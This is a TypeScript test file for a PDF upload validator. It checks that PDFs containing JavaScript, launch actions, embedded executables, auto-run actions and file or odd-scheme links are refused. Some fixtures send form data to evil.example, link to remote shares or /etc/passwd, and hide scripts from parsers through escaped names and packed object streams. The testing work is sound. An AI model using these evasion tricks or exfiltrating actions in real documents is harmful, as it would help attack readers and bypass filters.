import { messages } from '@headwater/contract/messages';
import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import { PDFHexString, PDFName, PDFString, type PDFDocument } from 'pdf-lib';
import PdfKit from 'pdfkit';
import { describe, expect, test } from 'vitest';
import {
  action,
  annotation,
  createPdf,
  inCatalog,
  insertBytes,
  streamObject,
} from '@headwater/runtime/testing/pdfs';
import { QueueFullError } from '@headwater/runtime/overload-error';
import { refusalInThisThread, refusalOf } from '../../../../testing/uploads/refusal-of.ts';
import { assertPdf } from './assert-pdf.ts';

const script = action('JavaScript', { JS: 'app.alert(1)' });

const scripts = {
  'a script of the document': (document: PDFDocument) => document.addJavaScript('start', 'app.alert(1)'),
  'a script that runs when it opens': inCatalog('OpenAction', script),
  'a script that runs when it closes': inCatalog('AA', (document) =>
    document.context.obj({ WC: script(document) }),
  ),
  'a script of a page': (document: PDFDocument) =>
    document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: script(document) })),
  'a script behind a link': annotation((document) => ({ Subtype: 'Link', A: script(document) })),
  'a script after another action': annotation((document) => ({
    Subtype: 'Link',
    A: document.context.obj({ S: 'URI', URI: PDFString.of('https://a.example'), Next: [script(document)] }),
  })),
  'a script of a rendition': annotation((document) => ({
    Subtype: 'Screen',
    A: action('Rendition', { JS: 'app.alert(1)' })(document),
  })),
  'a form of the XFA kind': inCatalog('AcroForm', (document) =>
    document.context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') }),
  ),
};

const launches = {
  'an action that starts a program': inCatalog('OpenAction', action('Launch', { F: 'calc.exe' })),
  'a link that starts a program': annotation((document) => ({
    Subtype: 'Link',
    A: action('Launch', { F: 'calc.exe' })(document),
  })),
  'an action that reads a file': annotation((document) => ({
    Subtype: 'Widget',
    A: action('ImportData', { F: 'secrets.fdf' })(document),
  })),
};

const calls = {
  'an action that sends a form when it opens': inCatalog(
    'OpenAction',
    action('SubmitForm', { F: 'https://evil.example' }),
  ),
  'a button that sends a form': annotation((document) => ({
    Subtype: 'Widget',
    A: action('SubmitForm', { F: 'https://evil.example' })(document),
  })),
  'an action that opens a file of another computer': inCatalog(
    'OpenAction',
    action('GoToE', { F: '\\\\evil\\share' }),
  ),
};

const unasked = {
  'a web page that opens with it': inCatalog('OpenAction', action('URI', { URI: 'https://a.example' })),
  'a web page that opens with it, by reference': inCatalog('OpenAction', (document) =>
    document.context.register(action('URI', { URI: 'https://a.example' })(document)),
  ),
  'a web page after the first page is shown': inCatalog('OpenAction', (document) =>
    document.context.obj({
      S: 'GoTo',
      D: [0, 'Fit'],
      Next: action('URI', { URI: 'https://a.example' })(document),
    }),
  ),
  'another PDF that opens with it': inCatalog('OpenAction', action('GoToR', { F: 'other.pdf' })),
  'a web page that opens with a page': (document: PDFDocument) =>
    document
      .getPage(0)
      .node.set(
        PDFName.of('AA'),
        document.context.obj({ O: action('URI', { URI: 'https://a.example' })(document) }),
      ),
};

const attach = (document: PDFDocument) => document.attach(Buffer.from('MZ'), 'setup.exe');

const files = {
  'an attached file': attach,
  'a file that an annotation holds': annotation(({ context }) => ({
    Subtype: 'FileAttachment',
    FS: context.obj({ Type: 'Filespec', EF: { F: context.register(context.stream('MZ')) } }),
  })),
};

const link = (address: string) =>
  annotation((document) => ({ Subtype: 'Link', A: action('URI', { URI: address })(document) }));

const fileLinks = {
  'a link to another PDF': annotation((document) => ({
    Subtype: 'Link',
    A: action('GoToR', { F: 'other.pdf' })(document),
  })),
  'a link to a file of the reader’s': link('file:///C:/Users'),
  'a link to a file, with a line break': link('fi\nle:///etc/passwd'),
  'a link to a file of another computer': link('\\\\\\\\evil\\share'),
  'a link to a file whose address stands elsewhere': annotation(({ context }) => ({
    Subtype: 'Link',
    A: context.obj({ S: 'URI', URI: context.register(PDFString.of('file:///C:/')) }),
  })),
  'a base address that is a file': inCatalog('URI', ({ context }) =>
    context.obj({ Base: PDFHexString.fromText('file:///C:/') }),
  ),
};

const otherLinks = {
  'a link that runs a script': link('javascript:app.alert(1)'),
  'a link that an application opens': link('ms-word:ofe|u|https://evil.example/a.docx'),
  'a link with an escaped scheme': link('\\163earch-ms:query=x'),
};

const media = {
  'a video': annotation(() => ({ Subtype: 'RichMedia' })),
  'a film of the old kind': annotation(() => ({ Subtype: 'Movie' })),
  'a sound': annotation(() => ({ Subtype: 'Sound' })),
  'a rendition': annotation((document) => ({ Subtype: 'Screen', A: action('Rendition')(document) })),
  'a 3D model': annotation(() => ({ Subtype: '3D' })),
};

test('a PDF is examined in its own thread, by the same rules', async () => {
  expect(await refusalOf(await createPdf())).toBeNull();
  const refused = await createPdf(inCatalog('OpenAction', script));
  expect(await refusalOf(refused)).toMatch(/^This PDF has scripts, /);
  expect(await refusalOf(refused)).toBe(await refusalInThisThread(refused));
  expect(await refusalOf(Buffer.from('%PDF-1.7 and no more'))).toBe(messages.invalidPdf);
  expect(await refusalOf(Buffer.from('no PDF'))).toBe(messages.invalidPdf);
});

describe('a PDF is refused, packed and plain, with', () => {
  const refused = [
    ...Object.entries(scripts).map(([kind, change]) => ({ kind, change, found: 'scripts' })),
    ...Object.entries(launches).map(([kind, change]) => ({ kind, change, found: 'launch actions' })),
    ...Object.entries(files).map(([kind, change]) => ({ kind, change, found: 'embedded files' })),
    ...Object.entries(calls).map(([kind, change]) => ({
      kind,
      change,
      found: 'actions that send data or open other files',
    })),
    ...Object.entries(unasked).map(([kind, change]) => ({
      kind,
      change,
      found: 'actions that run by themselves',
    })),
    ...Object.entries(media).map(([kind, change]) => ({ kind, change, found: 'video, sound or 3D models' })),
    ...Object.entries(fileLinks).map(([kind, change]) => ({ kind, change, found: 'links to files' })),
    ...Object.entries(otherLinks).map(([kind, change]) => ({
      kind,
      change,
      found: 'links other than web, email and telephone links',
    })),
  ];
  test.each(refused)('$kind', async ({ change, found }) => {
    const sentence = `This PDF has ${found}, which are not accepted. Print it to a new PDF, which leaves them out, and upload that.`;
    expect(await refusalInThisThread(await createPdf(change))).toBe(sentence);
    expect(await refusalInThisThread(await createPdf(change, false))).toBe(sentence);
  });
});

describe('a PDF is refused with content that one reader finds and another does not:', () => {
  /** An object that only a table of offsets leads to, and the harmless one that replaces it for all other readers. */
  const replaced = (entries: string, ...more: (string | Buffer)[]) => [
    `90 0 obj\n<< ${entries} >>\nendobj\n`,
    ...more,
    '90 0 obj\n<< /S /GoTo >>\nendobj\n',
  ];
  const script90 = '90 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
  const hidden = {
    'a script with escaped letters': [script90.replace('JavaScript', 'J#61v#61#53cript')],
    'a script that a later object replaces': replaced('/S /JavaScript /X (app.alert(1))'),
    'a script in another stream’s data': [streamObject(90, '', Buffer.from(script90))],
    'a script in a text of another object': [`91 0 obj (\n${script90}) endobj\n`],
    'a script in another object, which its start makes a text': [
      '91 0 obj << /A <92 0 obj (> /S /JavaScript /X (x) >> endobj\n',
    ],
    'a script behind a comment': replaced('/S %\n/JavaScript'),
    'a script whose kind stands elsewhere': replaced('/S 91 0 R', '91 0 obj /JavaScript endobj\n'),
    'a script whose object begins with a comment': ['90 %\n0%\robj % 1\n<< /S /JavaScript >> endobj\n'],
    'a script of a rendition': replaced('/S /Rendition /R 91 0 R /JS(app.alert(1))'),
    'a form of the XFA kind': replaced('/XFA 91 0 R'),
    'a catalog in the trailer': ['trailer % 1\n<< /Root << /OpenAction << /S /JavaScript >> >> >>\n'],
  };
  test.each(Object.entries(hidden))('%s', async (_kind, added) => {
    expect(await refusalInThisThread(insertBytes(await createPdf(undefined, false), ...added))).toMatch(
      /^This PDF has scripts, /,
    );
  });

  const others = {
    'launch actions': replaced('/S %\n/Launch /F (calc.exe)'),
    'embedded files': replaced('/EF %\n<</F 91 0 R>>', streamObject(91, '', Buffer.from('MZ'))),
    'actions that run by themselves': [
      '80 0 obj << /Type /Catalog /OpenAction 90 0 R >> endobj\n',
      ...replaced('/S /URI /URI (https://a.example)'),
    ],
    'unreadable objects': ['90 0 obj << /A [ >> /S /GoTo >> endobj\n'],
  };
  test.each(Object.entries(others))('%s', async (found, added) => {
    expect(await refusalInThisThread(insertBytes(await createPdf(undefined, false), ...added))).toContain(
      `has ${found},`,
    );
  });

  const script91 = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const packed = deflateSync(`91 0 ${script91}`);
  const hex = (bytes: Buffer) => Buffer.from(`${bytes.toString('hex')}>`);
  // A PNG filter for each byte's row, which a reader undoes and our parser does not.
  const predicted = deflateSync(`91 0 ${script91}`.replaceAll(/[^]/g, '\0$&'));
  const objects = '/Type /ObjStm /N 1 /First 5';
  const flate = '/Filter /FlateDecode';
  const ways = {
    'packed twice': streamObject(90, `${objects} /Filter [/FlateDecode /FlateDecode]`, deflateSync(packed)),
    'written as digits': streamObject(
      90,
      `${objects} /Filter /ASCIIHexDecode`,
      hex(Buffer.from(`91 0 ${script91}`)),
    ),
    'packed and written as digits': streamObject(
      90,
      `${objects} /Filter [/ASCIIHexDecode /FlateDecode]`,
      hex(packed),
    ),
    'not packed': streamObject(90, objects, Buffer.from(`91 0 ${script91}`)),
    transformed: streamObject(
      90,
      `${objects} ${flate} /DecodeParms << /Predictor 12 /Columns 1 >>`,
      predicted,
    ),
    'of a type that stands elsewhere': streamObject(90, objects.replace('/ObjStm', '92 0 R'), packed),
    'of two beginnings': streamObject(90, `${objects} /First 9 ${flate}`, packed),
    'with an escaped space in a name': streamObject(90, `${objects} /Filter#20/FlateDecode`, packed),
    'with garbage before the line break': Buffer.from(
      streamObject(90, `${objects} ${flate}`, packed).toString('latin1').replace('stream\n', 'stream x\n'),
      'latin1',
    ),
    'that begin in a text': streamObject(90, `${objects} ${flate}`, deflateSync(`91 1 (${script91})`)),
    'of which there are more than their head says': streamObject(
      90,
      `${objects.replace('/N 1', '/N 2')} ${flate}`,
      deflateSync(`91 0 93 6 (${script91})`),
    ),
    'with a comment in their head': streamObject(
      90,
      `${objects.replace('First 5', 'First 8')} ${flate}`,
      deflateSync(`%9\n91 1 (${script91})`),
    ),
    'that are no data': streamObject(90, `${objects} ${flate}`, Buffer.from('none')),
  };
  test.each(Object.entries(ways))('packed objects %s', async (_kind, added) => {
    expect(await refusalInThisThread(insertBytes(await createPdf(undefined, false), added))).toContain(
      'has unreadable objects,',
    );
  });

  test('a script in a packed stream within another’s data', async () => {
    const stream = streamObject(90, '', streamObject(91, `${objects} ${flate}`, packed));
    expect(await refusalInThisThread(insertBytes(await createPdf(undefined, false), stream))).toContain(
      'has scripts,',
    );
  });
});

describe('a PDF is accepted with', () => {
  const accepted = {
    'nothing but a page': () => undefined,
    'an action that opens it at a page': inCatalog('OpenAction', ({ context }) =>
      context.obj({ S: 'GoTo', D: [0, 'Fit'] }),
    ),
    'a link to a page on the web': annotation((document) => ({
      Subtype: 'Link',
      A: action('URI', { URI: 'https://water.example' })(document),
    })),
    'an action that opens it at a page, by reference': inCatalog('OpenAction', ({ context }) =>
      context.register(context.obj({ S: 'GoTo', D: [0, 'Fit'] })),
    ),
    'a place that it opens at': inCatalog('OpenAction', ({ context }) => context.obj([0, 'Fit'])),
    'a link to an email': link('MAILTO:office@water.example'),
    'a link to a telephone': link('tel:+441133496001'),
    'a link to a page beside it': link('brochure.html'),
    'a form without scripts': (document: PDFDocument) => {
      const field = document.getForm().createTextField('name');
      field.setText('Ada');
      field.addToPage(document.getPage(0));
    },
    'words that name what is refused': (document: PDFDocument) => {
      document.setTitle('HTML/JavaScript, /Launch and /EmbeddedFile');
      inCatalog('PieceInfo', () => PDFString.of('a trailer 5 \\(0 objects of /JS \\)'))(document);
      document.getPage(0).drawText('HTML/JavaScript and /S/Launch', { size: 8 });
    },
  };
  test.each(Object.entries(accepted))('%s', async (_kind, change) => {
    expect(await refusalInThisThread(await createPdf(change))).toBeNull();
    expect(await refusalInThisThread(await createPdf(change, false))).toBeNull();
  });

  test('an older version of itself, as programs leave when they append to a file', async () => {
    const opened = inCatalog('OpenAction', ({ context }) =>
      context.register(context.obj({ S: 'GoTo', D: [0, 'Fit'] })),
    );
    const plain = await createPdf(opened, false);
    const [added = '', number = ''] =
      /(\d+) 0 obj\n<<\n\/Type \/Pages[^]*?endobj\n/.exec(plain.toString('latin1')) ?? [];
    expect(added).toContain('/Kids');
    const table = `xref\n${number} 1\n${String(plain.length).padStart(10, '0')} 00000 n \n`;
    const start = plain.length + added.length;
    const trailer = `trailer\n<< /Size 9 /Prev 9 >>\nstartxref\n${start}\n%%EOF\n`;
    expect(
      await refusalInThisThread(Buffer.concat([plain, Buffer.from(`${added}${table}${trailer}`)])),
    ).toBeNull();
  });

  test('outlines, links and pictures of another program', async () => {
    const document = new PdfKit({ info: { Title: 'Pumps' }, pdfVersion: '1.7', tagged: true, lang: 'en' });
    document.outline.addItem('Pumps');
    document.text('See the page', { goTo: 'pumps' }).text('Water', { link: 'https://water.example' });
    document.addPage();
    document.addNamedDestination('pumps');
    document.text('Pumps');
    document.end();
    expect(await refusalInThisThread(await buffer(document))).toBeNull();
  });
});

test('a PDF behind which too many wait is not called too complex', async () => {
  const content = await createPdf();
  const examined = await Promise.allSettled(Array.from({ length: 3 }, async () => assertPdf(content)));
  expect(examined).toMatchObject([
    { status: 'fulfilled', value: 1 },
    { status: 'fulfilled', value: 1 },
    { status: 'rejected', reason: expect.any(QueueFullError) },
  ]);
});
